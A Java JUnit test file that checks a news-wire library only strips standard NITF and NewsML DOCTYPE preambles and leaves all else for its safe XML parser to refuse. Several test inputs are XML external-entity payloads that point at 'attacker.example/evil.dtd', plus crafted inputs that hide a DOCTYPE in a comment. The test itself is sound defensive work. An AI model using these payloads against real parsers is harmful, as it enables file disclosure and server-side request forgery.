package io.wirestream.formats;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

class NitfDoctypeTest {

    private static String strip(String xml) {
        return new String(NitfDoctype.stripStandard(xml.getBytes(StandardCharsets.UTF_8)), StandardCharsets.UTF_8);
    }

    @Test
    void blanksAStandardSystemDoctypeKeepingOffsets() {
        String in = "<?xml version=\"1.0\"?>\n<!DOCTYPE nitf SYSTEM \"../dtd/nitf-3-2.dtd\">\n<nitf/>";
        String out = strip(in);
        assertThat(out).doesNotContain("DOCTYPE").hasSameSizeAs(in).endsWith("\n<nitf/>");
    }

    @Test
    void blanksAStandardPublicDoctype() {
        assertThat(strip("<!DOCTYPE nitf PUBLIC \"-//IPTC//DTD NITF 3.4//EN\" \"http://www.nitf.org/site/nitf-documentation/nitf-3-4.dtd\"><nitf/>"))
                .doesNotContain("DOCTYPE");
        assertThat(strip("<!DOCTYPE nitf SYSTEM \"nitf.dtd\"><nitf/>")).doesNotContain("DOCTYPE");
    }

    @Test
    void keepsAnInternalSubsetSoSafeXmlRefusesIt() {
        String subset = "<!DOCTYPE nitf SYSTEM \"nitf-3-2.dtd\" [<!ENTITY x \"y\">]><nitf/>";
        assertThat(strip(subset)).isEqualTo(subset);
    }

    @Test
    void keepsNonStandardDtdsAndOtherRoots() {
        String evil = "<!DOCTYPE nitf SYSTEM \"http://attacker.example/evil.dtd\"><nitf/>";
        assertThat(strip(evil)).isEqualTo(evil);
        String otherPublic = "<!DOCTYPE nitf PUBLIC \"-//EVIL//DTD X//EN\" \"nitf.dtd\"><nitf/>";
        assertThat(strip(otherPublic)).isEqualTo(otherPublic);
        String otherRoot = "<!DOCTYPE html SYSTEM \"nitf-3-2.dtd\"><html/>";
        assertThat(strip(otherRoot)).isEqualTo(otherRoot);
    }

    @Test
    void neverTouchesADoctypeAfterTheRoot() {
        String late = "<nitf><p>&lt;!DOCTYPE nitf SYSTEM \"nitf.dtd\"&gt;</p><!-- <!DOCTYPE nitf SYSTEM \"nitf.dtd\"> --></nitf>";
        assertThat(strip(late)).isEqualTo(late);
    }

    /** NewsML 1.x's standard preamble (Kyodo, SDA): its DTD and NITF's through a parameter entity, nothing else. */
    @Test
    void blanksTheStandardNewsmlDoctypeAndItsNitfSubsetOnly() {
        String standard = "<?xml version=\"1.0\"?>\n<!DOCTYPE NewsML PUBLIC \"urn:newsml:iptc.org:20001006:NewsMLv1.0.dtd:1\" \"../DTD/NewsMLv1.0.dtd\" [\n"
                + "\t<!ENTITY % nitf SYSTEM \"../nitf/dtd/nitf-3-0.dtd\">\n\t%nitf;\n]>\n<NewsML/>";
        String out = stripNewsml(standard);
        assertThat(out).doesNotContain("DOCTYPE", "ENTITY").hasSameSizeAs(standard).endsWith("<NewsML/>");
        assertThat(stripNewsml("<!DOCTYPE NewsML SYSTEM \"NewsMLv1.2.dtd\"><NewsML/>")).doesNotContain("DOCTYPE");
        assertThat(stripNewsml("<!DOCTYPE NewsML PUBLIC \"urn:newsml:iptc.org:20031010:NewsMLv1.2.dtd:1\" \"NewsML-1.2.dtd\"\n"
                + "[<!ENTITY % nitf SYSTEM \"nitf-3-0.dtd\"> %nitf; ]>\n<NewsML/>")).doesNotContain("DOCTYPE");

        for (String refused : new String[] {
            "<!DOCTYPE NewsML SYSTEM \"NewsMLv1.2.dtd\" [<!ENTITY x \"y\">]><NewsML/>",
            "<!DOCTYPE NewsML SYSTEM \"NewsMLv1.2.dtd\" [<!ENTITY % e SYSTEM \"http://attacker.example/evil.dtd\"> %e;]><NewsML/>",
            "<!DOCTYPE NewsML SYSTEM \"http://attacker.example/evil.dtd\"><NewsML/>",
            "<!DOCTYPE NewsML PUBLIC \"-//EVIL//X//EN\" \"NewsMLv1.2.dtd\"><NewsML/>",
            "<!DOCTYPE nitf SYSTEM \"NewsMLv1.2.dtd\"><nitf/>"}) {
            assertThat(stripNewsml(refused)).as(refused).isEqualTo(refused);
        }
        // End to end: whatever is not the standard preamble still reaches SafeXml with its DOCTYPE, and is refused.
        String standardPart = "<!DOCTYPE NewsML SYSTEM \"NewsMLv1.2.dtd\">";
        for (String crafted : new String[] {
            "<!-- " + standardPart + " --><!DOCTYPE NewsML SYSTEM \"NewsMLv1.2.dtd\" [<!ENTITY x \"y\">]><NewsML>&x;</NewsML>",
            standardPart + "<!DOCTYPE NewsML SYSTEM \"NewsMLv1.2.dtd\" [<!ENTITY x \"y\">]><NewsML>&x;</NewsML>",
            "<!DOCTYPE NewsML SYSTEM \"NewsMLv1.2.dtd\" [<!ENTITY % e SYSTEM \"http://attacker.example/evil.dtd\"> %e;]><NewsML/>"}) {
            byte[] bytes = crafted.getBytes(StandardCharsets.UTF_8);
            org.assertj.core.api.Assertions.assertThatThrownBy(() -> SafeXml.parse(NitfDoctype.stripStandardNewsml(bytes))).as(crafted)
                    .isInstanceOf(WireParseException.class);
        }
    }

    private static String stripNewsml(String xml) {
        return new String(NitfDoctype.stripStandardNewsml(xml.getBytes(StandardCharsets.UTF_8)), StandardCharsets.UTF_8);
    }
}
